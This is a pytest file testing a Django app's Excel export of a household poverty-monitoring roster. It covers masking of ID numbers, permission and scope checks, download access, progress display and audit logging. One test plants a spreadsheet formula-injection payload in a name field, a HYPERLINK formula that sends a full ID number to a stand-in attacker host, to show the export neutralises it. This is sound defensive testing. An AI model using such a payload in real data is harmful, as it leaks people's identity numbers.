"""The monitoring roster (台账): national field order, IDs as text, masked unless approved, scope, background job."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fangpin.assistance import actions
from fangpin.assistance.models import MeasureType, RosterExport
from fangpin.assistance.roster import COLUMNS
from fangpin.cases.models import Case

HEADERS = [h for h, _ in COLUMNS]


def _sheet(response):
    book = load_workbook(
        io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
    )
    return book.active


@pytest.fixture
def export_as(django_capture_on_commit_callbacks):
    """POST the export form; the job is queued on commit (run inline by the test task backend)."""

    def run(client, **data):
        with django_capture_on_commit_callbacks(execute=True):
            return _export(client, **data)

    return run


def _export(client, **data):
    response = client.post("/assistance/roster/export/", {"purpose": "assistance", **data})
    assert response.status_code == 302
    export = RosterExport.objects.latest("id")
    assert response["Location"] == f"/assistance/roster/exports/{export.pk}/"
    return export


def test_the_roster_follows_the_national_fields_with_masked_ids_as_text(
    world, client_for, plan, audit_rows, export_as
) -> None:
    loan = MeasureType.objects.get(county_id="360722", code="XD-01")
    measure = actions.add_measure(
        plan, actor=world.user("liu_cadre"), measure_type=loan, start_date=dt.date(2026, 3, 1)
    )
    actions.update_measure(
        measure, actor=world.user("liu_cadre"), expected_version=1, status="active", income_gained=3600
    )
    client = client_for("zhang_township")
    export = export_as(client)
    export.refresh_from_db()
    assert export.status == "done" and export.total == 1 and not export.reveal
    assert "下载 Excel" in client.get(f"/assistance/roster/exports/{export.pk}/").content.decode()
    response = client.get(f"/assistance/roster/exports/{export.pk}/download/")
    assert response.status_code == 200
    sheet = _sheet(response)
    assert [c.value for c in sheet[3]] == HEADERS
    values = dict(zip(HEADERS, sheet[4], strict=True))
    head = plan.household.memberships.get(relation="01").person
    assert values["户编号"].value == plan.household.household_no and values["户编号"].data_type == "s"
    assert values["户编号"].number_format == "@"
    assert values["户主证件号码"].value == head.id_number[:6] + "********" + head.id_number[-4:]
    assert values["户主证件号码"].number_format == "@"
    assert values["户主姓名"].value == "肖*香"
    assert values["家庭人口数"].value == 2
    assert values["监测对象类别"].value == "边缘易致贫户"
    assert values["风险类型1"].value == "01 因病" and values["风险类型2"].value == "09 因学"
    assert values["风险类型3"].value in (None, "")
    assert "小额信贷-脱贫人口小额信贷（实施中）" in values["帮扶措施"].value
    assert values["措施增收（元/年）"].value == 3600
    assert values["风险消除状态"].value == "未消除（监测中）"
    assert [e.data["reveal"] for e in audit_rows("ROSTER_EXPORT")] == [False]
    assert len(audit_rows("ROSTER_DOWNLOADED")) == 1


def test_full_ids_need_the_reveal_right_and_a_reason(world, client_for, plan, audit_rows, export_as) -> None:
    head = plan.household.memberships.get(relation="01").person
    client = client_for("zhang_township")
    client.post("/assistance/roster/export/", {"purpose": "assistance", "reveal": "on", "reason": ""})
    assert not RosterExport.objects.exists()
    analyst = client_for("chen_analyst")  # may export the roster, may not reveal
    analyst.post(
        "/assistance/roster/export/", {"purpose": "statistics", "reveal": "on", "reason": "年度统计核对"}
    )
    assert not RosterExport.objects.exists()
    export = export_as(client, reveal="on", reason="县级核查帮扶资金发放")
    sheet = _sheet(client.get(f"/assistance/roster/exports/{export.pk}/download/"))
    values = dict(zip(HEADERS, sheet[4], strict=True))
    assert values["户主证件号码"].value == head.id_number and values["户主证件号码"].data_type == "s"
    assert values["户主姓名"].value == "肖凤香"
    (row,) = audit_rows("ROSTER_EXPORT")
    assert row.reason == "县级核查帮扶资金发放" and row.data["reveal"] is True


def test_the_roster_is_scoped_and_shows_elimination(world, client_for, plan, monitored, export_as) -> None:
    sibling = monitored("sibling", risk_types="07")
    now = timezone.now()
    Case.objects.create(
        kind="elimination",
        household=sibling.household,
        village_id=sibling.village_id,
        identification=sibling,
        state="eliminated",
        found_at=now,
        opened_at=now,
        deadline_at=now,
        decided_at=now,
    )
    monitored("other")
    township = export_as(client_for("zhang_township"))
    township.refresh_from_db()
    assert township.total == 1  # own township only
    client = client_for("wang_county")
    county = export_as(client)
    sheet = _sheet(client.get(f"/assistance/roster/exports/{county.pk}/download/"))
    rows = {
        r[3].value: dict(zip(HEADERS, [c.value for c in r], strict=True)) for r in sheet.iter_rows(min_row=4)
    }
    assert set(rows) == {plan.household.household_no, sibling.household.household_no}  # not county C
    assert rows[sibling.household.household_no]["风险消除状态"] == "已消除风险"
    assert rows[sibling.household.household_no]["风险消除时间"] == timezone.localtime(now).strftime(
        "%Y-%m-%d"
    )


def test_an_export_is_read_by_its_requester_only(world, client_for, plan, export_as) -> None:
    export = export_as(client_for("zhang_township"))
    assert (
        client_for("wang_county").get(f"/assistance/roster/exports/{export.pk}/download/").status_code == 404
    )
    assert client_for("liu_cadre").get("/assistance/roster/").status_code == 403  # no EXPORT_ROSTER


def test_a_running_export_shows_progress_to_htmx(world, client_for, plan) -> None:
    user = world.user("zhang_township")
    export = RosterExport.objects.create(
        requested_by=user, region_id=user.region_id, status="running", total=400, done=200
    )
    client = client_for("zhang_township")
    fragment = client.get(f"/assistance/roster/exports/{export.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "200 / 400" in fragment and "50%" in fragment
    export.status = "done"
    export.save()
    finished = client.get(f"/assistance/roster/exports/{export.pk}/", HTTP_HX_REQUEST="true")
    assert finished.status_code == 204 and finished["HX-Refresh"] == "true"


def test_a_formula_in_a_name_is_inert_text_in_the_roster(world, client_for, plan, export_as) -> None:
    """Formula injection (issue #14.4): the revealed roster holds full IDs next to the name, so a live
    `=HYPERLINK(...&F4...)` would send the head's ID number away when clicked."""
    from fangpin.assistance.models import Measure

    hostile = '=HYPERLINK("http://evil.example/?id="&F4,"x")'
    head = plan.household.memberships.get(relation="01").person
    head.name = hostile
    head.save(update_fields=["name"])
    loan = MeasureType.objects.get(county_id="360722", code="XD-01")
    actions.add_measure(
        plan, actor=world.user("liu_cadre"), measure_type=loan, start_date=dt.date(2026, 3, 1)
    )
    Measure.objects.filter(plan=plan).update(income_gained=-120)  # e.g. a correction booked as a loss
    client = client_for("zhang_township")
    export = export_as(client, reveal="on", reason="县级核查帮扶资金发放")
    values = dict(
        zip(HEADERS, _sheet(client.get(f"/assistance/roster/exports/{export.pk}/download/"))[4], strict=True)
    )
    assert values["户主姓名"].data_type != "f" and values["户主姓名"].value == "'" + hostile
    assert values["措施增收（元/年）"].value == -120 and values["措施增收（元/年）"].data_type == "n"
